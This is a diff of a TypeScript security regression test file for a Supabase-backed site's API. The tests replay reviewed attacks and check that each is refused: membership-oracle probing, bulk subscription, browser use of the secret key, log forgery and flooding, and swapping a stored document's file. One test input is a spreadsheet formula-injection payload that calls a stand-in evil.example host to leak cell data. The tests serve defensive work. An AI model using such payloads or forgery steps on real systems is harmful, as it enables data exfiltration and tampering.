@@ -1,27 +1,18 @@
-// The attacks of issue 19, replayed over HTTP against the stack as the role that tried each one:
-// every one is now refused, or answered so that it learns nothing, and nothing is stored.
+// The attacks a security review of the site's API found, replayed over HTTP against the stack as
+// the role that tried each one: every one is now refused, or answered so that it learns nothing,
+// and nothing is stored.
 import { createHash } from "node:crypto";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { describe, expect, it } from "vitest";
 import { createNodeClient } from "../../../records/node-client";
 import { LOCAL_PUBLISHABLE_KEY, LOCAL_SECRET_KEY } from "../../../supabase/local/core/keys";
-import {
-  LOCAL_DEMO_SERVICE_ROLE_KEY,
-  seedAccounts,
-  startTestStack,
-  type TestStack,
-} from "./test-stack";
+import { LOCAL_DEMO_SERVICE_ROLE_KEY, seedAccounts } from "./test-stack";
+import { useTestStack } from "../../support/use-test-stack";
 
-let env: TestStack;
-beforeAll(async () => {
-  env = await startTestStack();
-});
-afterAll(async () => {
-  await env?.stop();
-});
+const env = useTestStack();
 
 /** A request as a browser would send it, with the publishable key and, if given, a session. */
 function rest(path: string, init: { body?: unknown; headers?: Record<string, string> } = {}) {
-  return fetch(`${env.url}/rest/v1/${path}`, {
+  return fetch(`${env().url}/rest/v1/${path}`, {
     method: "POST",
     headers: {
       apikey: LOCAL_PUBLISHABLE_KEY,
@@ -34,7 +25,7 @@ function rest(path: string, init: { body?: unknown; headers?: Record<string, str
 }
 
 async function subscribers(): Promise<{ email: string; source_path: string }[]> {
-  const { rows } = await env.db.query<{ email: string; source_path: string }>(
+  const { rows } = await env().db.query<{ email: string; source_path: string }>(
     "select email, source_path from public.newsletter_subscribers order by email",
   );
   return rows;
@@ -48,7 +39,7 @@ async function observable(response: Response) {
   return { status: response.status, body: await response.text(), headers };
 }
 
-describe("finding 1: the newsletter list is no membership oracle", () => {
+describe("the newsletter list is no membership oracle", () => {
   it("anon: a new, a known and a differently cased address get one and the same answer, count=exact included", async () => {
     const before = await subscribers();
     const signUp = (email: string) =>
@@ -83,7 +74,7 @@ describe("finding 1: the newsletter list is no membership oracle", () => {
   });
 
   it("visitor: return=representation no longer tells a subscribed address (201 []) from another (403)", async () => {
-    const token = await env.accessToken("visitor");
+    const token = await env().accessToken("visitor");
     const before = await subscribers();
     const statuses = [];
     for (const email of ["oracle@example.com", "stranger@example.com"]) {
@@ -101,7 +92,7 @@ describe("finding 1: the newsletter list is no membership oracle", () => {
   });
 });
 
-describe("finding 2: one request cannot subscribe thousands of addresses or take their locks", () => {
+describe("one request cannot subscribe thousands of addresses or take their locks", () => {
   const addresses = Array.from({ length: 8000 }, (_, index) => ({
     email: `bulk-${index}@example.com`,
     source_path: "/",
@@ -118,7 +109,7 @@ describe("finding 2: one request cannot subscribe thousands of addresses or take
   });
 });
 
-describe("finding 3: no address that a spreadsheet would run reaches the list", () => {
+describe("no address that a spreadsheet would run reaches the list", () => {
   it("anon: subscribing =HYPERLINK(...) is refused with the CHECK's 400, and nothing is stored", async () => {
     const before = await subscribers();
     for (const email of ['=HYPERLINK("https://evil.example/?"&A3,"x@y.z")', "+1@example.com"]) {
@@ -132,7 +123,7 @@ describe("finding 3: no address that a spreadsheet would run reaches the list", 
   });
 });
 
-describe("finding 4: the secret key does not work from a browser, as on hosted Supabase", () => {
+describe("the secret key does not work from a browser, as on hosted Supabase", () => {
   /** What Chromium sends with a fetch from a page on another site. */
   const browser = {
     "User-Agent":
@@ -155,33 +146,37 @@ describe("finding 4: the secret key does not work from a browser, as on hosted S
   }
 
   async function userCount(): Promise<number> {
-    const { rows } = await env.db.query<{ n: number }>("select count(*)::int as n from auth.users");
+    const { rows } = await env().db.query<{ n: number }>(
+      "select count(*)::int as n from auth.users",
+    );
     return rows[0]!.n;
   }
 
   it("REST: the subscriber list is refused, with the key as apikey alone or as bearer too", async () => {
     await expectForbidden(
-      await fetch(`${env.url}/rest/v1/newsletter_subscribers?select=email`, {
+      await fetch(`${env().url}/rest/v1/newsletter_subscribers?select=email`, {
         headers: secretFromBrowser,
       }),
     );
     await expectForbidden(
-      await fetch(`${env.url}/rest/v1/newsletter_subscribers?select=email`, {
+      await fetch(`${env().url}/rest/v1/newsletter_subscribers?select=email`, {
         headers: { ...secretFromBrowser, Authorization: `Bearer ${LOCAL_SECRET_KEY}` },
       }),
     );
     await expectForbidden(
-      await fetch(`${env.url}/rest/v1/user_roles?apikey=${LOCAL_SECRET_KEY}`, { headers: browser }),
+      await fetch(`${env().url}/rest/v1/user_roles?apikey=${LOCAL_SECRET_KEY}`, {
+        headers: browser,
+      }),
     );
   });
 
   it("Auth: the admin user API is refused, listing and creating alike; no user is created", async () => {
     const users = await userCount();
     await expectForbidden(
-      await fetch(`${env.url}/auth/v1/admin/users`, { headers: secretFromBrowser }),
+      await fetch(`${env().url}/auth/v1/admin/users`, { headers: secretFromBrowser }),
     );
     await expectForbidden(
-      await fetch(`${env.url}/auth/v1/admin/users`, {
+      await fetch(`${env().url}/auth/v1/admin/users`, {
         method: "POST",
         headers: { ...secretFromBrowser, "Content-Type": "application/json" },
         body: JSON.stringify({ email: "intruder@example.com", password: "intruder-password-1" }),
@@ -192,14 +187,14 @@ describe("finding 4: the secret key does not work from a browser, as on hosted S
 
   it("Storage: refused from a browser, and the key as bearer alone (no apikey) is no token anywhere", async () => {
     await expectForbidden(
-      await fetch(`${env.url}/storage/v1/object/list/legal-documents`, {
+      await fetch(`${env().url}/storage/v1/object/list/legal-documents`, {
         method: "POST",
         headers: { ...secretFromBrowser, "Content-Type": "application/json" },
         body: JSON.stringify({ prefix: "" }),
       }),
     );
     const bearerOnly = { Authorization: `Bearer ${LOCAL_SECRET_KEY}` };
-    const listed = await fetch(`${env.url}/storage/v1/object/list/legal-documents`, {
+    const listed = await fetch(`${env().url}/storage/v1/object/list/legal-documents`, {
       method: "POST",
       headers: { ...bearerOnly, "Content-Type": "application/json" },
       body: JSON.stringify({ prefix: "" }),
@@ -212,18 +207,18 @@ describe("finding 4: the secret key does not work from a browser, as on hosted S
       message: "Invalid Compact JWS",
     });
     const name = "form_adv-1767225600999.pdf";
-    const uploaded = await fetch(`${env.url}/storage/v1/object/legal-documents/${name}`, {
+    const uploaded = await fetch(`${env().url}/storage/v1/object/legal-documents/${name}`, {
       method: "POST",
       headers: { ...bearerOnly, "Content-Type": "application/pdf" },
       body: "%PDF-1.4 forged",
     });
     expect(uploaded.status).toBe(400);
-    const { rows } = await env.db.query("select 1 from storage.objects where name = $1", [name]);
+    const { rows } = await env().db.query("select 1 from storage.objects where name = $1", [name]);
     expect(rows).toEqual([]);
   });
 
   it("the legacy service_role JWT is not refused from a browser, as on hosted (it predates the check)", async () => {
-    const response = await fetch(`${env.url}/rest/v1/user_roles?select=user_id`, {
+    const response = await fetch(`${env().url}/rest/v1/user_roles?select=user_id`, {
       headers: { ...browser, apikey: LOCAL_DEMO_SERVICE_ROLE_KEY },
     });
     expect(response.status).toBe(200);
@@ -231,7 +226,7 @@ describe("finding 4: the secret key does not work from a browser, as on hosted S
   });
 
   it("from Node (supabase-js, as npm run create-admin and the tests use it) the secret key still works", async () => {
-    const client = createNodeClient(env.url, LOCAL_SECRET_KEY);
+    const client = createNodeClient(env().url, LOCAL_SECRET_KEY);
     const users = await client.auth.admin.listUsers();
     expect(users.error).toBeNull();
     expect(users.data.users.map((user) => user.email)).toContain(seedAccounts.admin.email);
@@ -244,14 +239,14 @@ describe("finding 4: the secret key does not work from a browser, as on hosted S
   });
 });
 
-describe("finding 5: the security log cannot be forged, flooded or given a chosen address", () => {
+describe("the security log cannot be forged, flooded or given a chosen address", () => {
   interface StoredEvent {
     action: string;
     severity: string;
     ip_address: string;
   }
   async function eventsOf(account: keyof typeof seedAccounts): Promise<StoredEvent[]> {
-    const { rows } = await env.db.query<StoredEvent>(
+    const { rows } = await env().db.query<StoredEvent>(
       "select action, severity, ip_address from public.security_events where user_id = $1 order by created_at, id",
       [seedAccounts[account].id],
     );
@@ -260,7 +255,7 @@ describe("finding 5: the security log cannot be forged, flooded or given a chose
   const asVisitor = async (path: string, body: unknown, headers: Record<string, string> = {}) =>
     rest(path, {
       body,
-      headers: { Authorization: `Bearer ${await env.accessToken("visitor")}`, ...headers },
+      headers: { Authorization: `Bearer ${await env().accessToken("visitor")}`, ...headers },
     });
 
   it("visitor: an admin's event or a critical one of its choosing is refused, and nothing is stored", async () => {
@@ -297,7 +292,7 @@ describe("finding 5: the security log cannot be forged, flooded or given a chose
   });
 
   it("visitor: a flood stops at 30 events a minute; the next is refused with 429 and not stored", async () => {
-    const token = await env.accessToken("visitor");
+    const token = await env().accessToken("visitor");
     const send = () =>
       rest("rpc/record_security_event", {
         body: { action: "unauthorized_access", details: { note: "x".repeat(4000) } },
@@ -311,7 +306,7 @@ describe("finding 5: the security log cannot be forged, flooded or given a chose
       code: "PT429",
       message: "too many unauthorized_access events: at most 30 of one kind a minute per user",
     });
-    const { rows } = await env.db.query<{ n: number }>(
+    const { rows } = await env().db.query<{ n: number }>(
       "select count(*)::int as n from public.security_events where user_id = $1 and created_at > now() - interval '1 minute'",
       [seedAccounts.visitor.id],
     );
@@ -321,7 +316,7 @@ describe("finding 5: the security log cannot be forged, flooded or given a chose
   });
 });
 
-describe("finding 6: a kept document's file cannot be swapped, not even with the secret key", () => {
+describe("a kept document's file cannot be swapped, not even with the secret key", () => {
   const kept = "form_adv-1767225600000.pdf";
   const forged = () => new Blob(["%PDF-1.4 forged\n%%EOF\n"], { type: "application/pdf" });
   const sha256 = async (blob: Blob) =>
@@ -330,7 +325,7 @@ describe("finding 6: a kept document's file cannot be swapped, not even with the
       .digest("hex");
 
   async function documentRow() {
-    const { rows } = await env.db.query<{ file_path: string; sha256: string }>(
+    const { rows } = await env().db.query<{ file_path: string; sha256: string }>(
       "select file_path, sha256 from public.legal_documents where file_path = $1",
       [kept],
     );
@@ -338,7 +333,7 @@ describe("finding 6: a kept document's file cannot be swapped, not even with the
   }
 
   it("service role: the four steps all fail, and anon still downloads the file whose hash the document recorded", async () => {
-    const service = createNodeClient(env.url, LOCAL_SECRET_KEY);
+    const service = createNodeClient(env().url, LOCAL_SECRET_KEY);
     const bucket = service.storage.from("legal-documents");
     const recorded = await documentRow();
     expect(recorded?.sha256).toMatch(/^[0-9a-f]{64}$/);
@@ -358,7 +353,7 @@ describe("finding 6: a kept document's file cannot be swapped, not even with the
     expect(rehashed.error).toMatchObject({ code: "42501" });
 
     expect(await documentRow()).toEqual(recorded);
-    const { data, error } = await createNodeClient(env.url, LOCAL_PUBLISHABLE_KEY)
+    const { data, error } = await createNodeClient(env().url, LOCAL_PUBLISHABLE_KEY)
       .storage.from("legal-documents")
       .download(kept);
     expect(error).toBeNull();
@@ -366,7 +361,7 @@ describe("finding 6: a kept document's file cannot be swapped, not even with the
   });
 
   it("service role: no file may be put under the name of a document recorded before its file", async () => {
-    const service = createNodeClient(env.url, LOCAL_SECRET_KEY);
+    const service = createNodeClient(env().url, LOCAL_SECRET_KEY);
     const name = "form_crs-1767225600555.pdf";
     const { error } = await service.from("legal_documents").insert({
       name: "Form CRS (no file yet)",
@@ -382,19 +377,19 @@ describe("finding 6: a kept document's file cannot be swapped, not even with the
         (await service.storage.from("legal-documents").upload(name, forged(), { upsert })).error,
       ).not.toBeNull();
     }
-    const { rows } = await env.db.query("select 1 from storage.objects where name = $1", [name]);
+    const { rows } = await env().db.query("select 1 from storage.objects where name = $1", [name]);
     expect(rows).toEqual([]);
   });
 });
 
-describe("finding 7: logic trees read as PostgREST reads them", () => {
+describe("logic trees read as PostgREST reads them", () => {
   const get = (query: string) =>
-    fetch(`${env.url}/rest/v1/recommended_resources?select=title&${query}`, {
+    fetch(`${env().url}/rest/v1/recommended_resources?select=title&${query}`, {
       headers: { apikey: LOCAL_PUBLISHABLE_KEY },
     });
 
   it('anon: or=("title".eq.x) filters by the quoted column, as or=(title.eq.x) does', async () => {
-    const { rows } = await env.db.query<{ title: string }>(
+    const { rows } = await env().db.query<{ title: string }>(
       "select title from public.recommended_resources where is_featured order by title limit 1",
     );
     const title = rows[0]!.title;
